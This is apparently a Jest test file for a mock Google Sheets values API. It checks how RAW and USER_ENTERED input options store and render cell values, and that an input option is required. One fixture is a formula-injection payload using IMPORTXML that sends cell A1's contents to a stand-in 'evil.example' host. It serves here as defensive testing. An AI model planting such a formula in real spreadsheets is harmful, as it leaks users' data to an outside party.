import { describe, expect, it } from "@jest/globals";
import { HIRING_PIPELINE_ID as ID, getValues, refusal, startWithTabs, valuesPath } from "./support.ts";

const RAW = { valueInputOption: "RAW" };
const TYPED = { valueInputOption: "USER_ENTERED" };

describe("RAW and USER_ENTERED", () => {
  const EVIL = `=IMPORTXML("http://evil.example/?"&A1)`;

  it.each([
    [EVIL, "text", EVIL, "formula", EVIL],
    ["+1 555", "text", "+1 555", "formula", "=+1 555"],
    ["+15551234", "text", "+15551234", "number", 15_551_234],
    ["-5", "text", "-5", "number", -5],
    ["- call back", "text", "- call back", "formula", "=- call back"],
    ["@mention", "text", "@mention", "text", "@mention"],
    ["'=1+1", "text", "'=1+1", "text", "=1+1"],
    ["007", "text", "007", "number", 7],
    ["1,234.5", "text", "1,234.5", "number", 1234.5],
    ["12.5%", "text", "12.5%", "number", 0.125],
    ["$3.20", "text", "$3.20", "number", 3.2],
    ["1e3", "text", "1e3", "number", 1000],
    ["2026-05-02", "text", "2026-05-02", "number", 46_144],
    ["5/2/2026", "text", "5/2/2026", "number", 46_144],
    ["2026-05-02 12:00", "text", "2026-05-02 12:00", "number", 46_144.5],
    ["2026-02-30", "text", "2026-02-30", "text", "2026-02-30"],
    ["true", "text", "true", "bool", true],
    ["82", "text", "82", "number", 82],
    [82, "number", 82, "number", 82],
    [false, "bool", false, "bool", false],
    ["", "blank", "", "blank", ""],
    ["Ada Berg", "text", "Ada Berg", "text", "Ada Berg"],
  ])("%j", async (sent, rawKind, raw, typedKind, typed) => {
    const google = await startWithTabs({ name: "Sheet1" });
    const body = { values: [[sent]] };
    expect((await google.sheet("PUT", valuesPath("Sheet1!A1"), { query: RAW, body })).status).toBe(200);
    expect((await google.sheet("PUT", valuesPath("Sheet1!B1"), { query: TYPED, body })).status).toBe(200);
    expect(google.standIn.cell(ID, "Sheet1!A1")).toEqual({ kind: rawKind, value: raw });
    expect(google.standIn.cell(ID, "Sheet1!B1")).toEqual({ kind: typedKind, value: typed });
  });

  it("reads back as the render options ask", async () => {
    const google = await startWithTabs({ name: "Sheet1" });
    const row = ["=1+1", "2026-05-02", "3:30", "12%", "$1,234.5", 0.1 + 0.2, true, "text", "+x"];
    await google.sheet("PUT", valuesPath("Sheet1!A1:J1"), { query: TYPED, body: { values: [row] } });
    const read = async (query: object) => (await getValues(google, "Sheet1!1:1", query)).values?.[0];
    expect(await read({})).toEqual([
      "#N/A",
      "2026-05-02",
      "3:30:00 AM",
      "12%",
      "$1,234.50",
      "0.3",
      "TRUE",
      "text",
      "#ERROR!",
    ]);
    const serials = ["#N/A", 46_144, 3.5 / 24, 0.12, 1234.5, 0.1 + 0.2, true, "text", "#ERROR!"];
    expect(await read({ valueRenderOption: "UNFORMATTED_VALUE" })).toEqual(serials);
    expect(
      await read({ valueRenderOption: "UNFORMATTED_VALUE", dateTimeRenderOption: "FORMATTED_STRING" }),
    ).toEqual(["#N/A", "2026-05-02", "3:30:00 AM", 0.12, 1234.5, 0.1 + 0.2, true, "text", "#ERROR!"]);
    expect(await read({ valueRenderOption: "FORMULA" })).toEqual([
      "=1+1",
      46_144,
      3.5 / 24,
      0.12,
      1234.5,
      0.1 + 0.2,
      true,
      "text",
      "=+x",
    ]);
  });

  it("must be chosen", async () => {
    const google = await startWithTabs({ name: "Sheet1" });
    const missing = refusal(400, "INVALID_ARGUMENT", "'valueInputOption' is required but not specified");
    const body = { values: [["x"]] };
    expect((await google.sheet("PUT", valuesPath("A1"), { body })).body).toMatchObject(missing);
    expect((await google.sheet("POST", valuesPath("A1", ":append"), { body })).body).toMatchObject(missing);
    expect((await google.sheet("POST", "/values:batchUpdate", { body: { data: [] } })).body).toMatchObject(
      missing,
    );
    const unspecified = { query: { valueInputOption: "INPUT_VALUE_OPTION_UNSPECIFIED" }, body };
    expect((await google.sheet("PUT", valuesPath("A1"), unspecified)).body).toMatchObject(missing);
  });
});
